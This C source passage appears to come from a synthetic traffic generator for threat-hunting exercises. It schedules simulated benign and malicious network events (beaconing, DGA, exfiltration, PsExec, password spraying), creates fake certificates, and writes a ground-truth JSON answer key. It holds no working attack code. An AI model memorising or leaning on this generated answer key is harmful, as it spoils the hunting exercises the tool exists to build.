    [EV_VPNUSER] = do_vpnuser,   [EV_PARTNER] = do_partner,
    [EV_TELEM] = do_telem,       [EV_ILO] = do_ilo,
    [EV_ADMWINRM] = do_admwinrm, [EV_LONGISH] = do_longish,
    [EV_DROPBOX] = do_dropbox,   [EV_BACKUP] = do_backup,
    [EV_ONEDRIVE] = do_onedrive, [EV_BEACON] = do_beacon,
    [EV_LONGCONN] = do_longconn, [EV_RARE] = do_rare,
    [EV_TUNNEL] = do_tunnel,     [EV_DGA] = do_dga,
    [EV_PSDL] = do_psdl,         [EV_EXFIL] = do_exfil,
    [EV_PSEXEC] = do_psexec,     [EV_REMOTE] = do_remote,
    [EV_SCAN] = do_scan,         [EV_XZONE] = do_xzone,
    [EV_COLLECT] = do_collect,   [EV_EDGE] = do_edge,
    [EV_PIVOT] = do_pivot,       [EV_MFT] = do_mft,
    [EV_SPRAY] = do_spray,
};

/* ------------------------------------------------------------------ interface */

static int make_certs(struct gen_hunt *h, struct world *w, struct rng *r)
{
    static const char *const ilo[][2] = {{"C", "US"},      {"ST", "Texas"},
                                         {"L", "Houston"}, {"O", "Hewlett Packard Enterprise"},
                                         {"OU", "ISS"},    {"CN", "ilo-fs01.corp.example"},
                                         {NULL, NULL}};
    static const char *const rdp[][2] = {{"CN", "FS01.corp.example"}, {NULL, NULL}};
    int rc = hunt_cert_cs(w, &h->cs);
    rc = rc ? rc : hunt_cert_self(w, r, ilo, 1559347200, 2032473600, &h->ilo_cert);
    rc = rc ? rc : hunt_cert_self(w, r, rdp, 1704844800, 1720569600, &h->rdp_cert);
    for (int i = 0; !rc && i < 2; i++)
        rc = hunt_cert_leaf(w, r, h->telem[i].name, &h->leaf_telem[i]);
    return rc ? rc : hunt_cert_leaf(w, r, h->rare.name, &h->leaf_rare);
}

void gen_hunt_free(struct gen_hunt *h)
{
    if (!h)
        return;
    gen_cert_free(&h->cs);
    gen_cert_free(&h->ilo_cert);
    gen_cert_free(&h->rdp_cert);
    gen_cert_free(&h->leaf_telem[0]);
    gen_cert_free(&h->leaf_telem[1]);
    gen_cert_free(&h->leaf_rare);
    free(h->ev);
    free(h);
}

int gen_hunt_new(struct world *w, uint64_t seed, int64_t start, struct gen_hunt **out)
{
    struct rng r;
    struct gen_hunt *h = calloc(1, sizeof(*h));
    *out = NULL;
    if (!h)
        return KS_ENOMEM;
    h->t0 = start;
    gen_rng_seed(&r, seed ^ UINT64_C(0x68756e74)); /* "hunt": its own streams */
    gen_rng_split(&r, &h->r);
    make_hosts(h, w, &r);
    h->tsch_port = (uint16_t)gen_rng_range(&r, 49664, 49700);
    h->drs_port = (uint16_t)(h->tsch_port + 3);
    int rc = make_certs(h, w, &r);
    plan_items(h);
    plan_background(h, &r);
    plan_threats(h, &r);
    rc = rc ? rc : h->err;
    if (rc) {
        gen_hunt_free(h);
        return rc;
    }
    qsort(h->ev, h->nev, sizeof(*h->ev), ev_cmp);
    *out = h;
    return 0;
}

int64_t gen_hunt_next(const struct gen_hunt *h)
{
    return h->next < h->nev ? h->ev[h->next].t : INT64_MAX;
}

int gen_hunt_spawn(struct gen_hunt *h, struct world *w, const struct gen_cfg *c, uint64_t *id,
                   gen_push_fn push, void *ctx)
{
    if (h->next >= h->nev)
        return 0;
    const struct hev *e = &h->ev[h->next++];
    struct spawn x = {h, w, c, id, push, ctx};
    if (e->type >= sizeof(handlers) / sizeof(handlers[0]) || !handlers[e->type])
        return KS_EINVAL;
    return handlers[e->type](&x, e);
}

void gen_hunt_seen(struct gen_hunt *h, const struct sess *s)
{
    if (!s->tag || s->tag > h->nit)
        return;
    struct item *it = &h->it[s->tag - 1];
    if (!it->sessions || s->st.first < it->first)
        it->first = s->st.first;
    if (!it->sessions || s->st.last > it->last)
        it->last = s->st.last;
    it->sessions++;
}

static void json_str(FILE *f, const char *s)
{
    fputc('"', f);
    for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
        if (*p == '"' || *p == '\\')
            fprintf(f, "\\%c", *p);
        else if (*p < 0x20)
            fprintf(f, "\\u%04x", *p);
        else
            fputc(*p, f);
    }
    fputc('"', f);
}

int gen_hunt_truth(const struct gen_hunt *h, FILE *f)
{
    for (size_t i = 0; i < h->nit; i++) {
        const struct item *it = &h->it[i];
        const struct item *tm = it->same_as >= 0 ? &h->it[it->same_as] : it;
        char first[48], last[48];
        ktime_format(tm->first, first, sizeof(first));
        ktime_format(tm->last, last, sizeof(last));
        fprintf(f, "{\"hunt\":\"%s\",\"threat\":%s,\"src\":", it->hunt,
                it->threat ? "true" : "false");
        json_str(f, it->src);
        fputs(",\"dst\":", f);
        json_str(f, it->dst);
        fputs(",\"name\":", f);
        json_str(f, it->name);
        fprintf(f, ",\"first\":\"%s\",\"last\":\"%s\",\"sessions\":%u,\"what\":", first, last,
                (unsigned)tm->sessions);
        json_str(f, it->what);
        fputs("}\n", f);
    }
    return ferror(f) ? KS_EIO : 0;
}
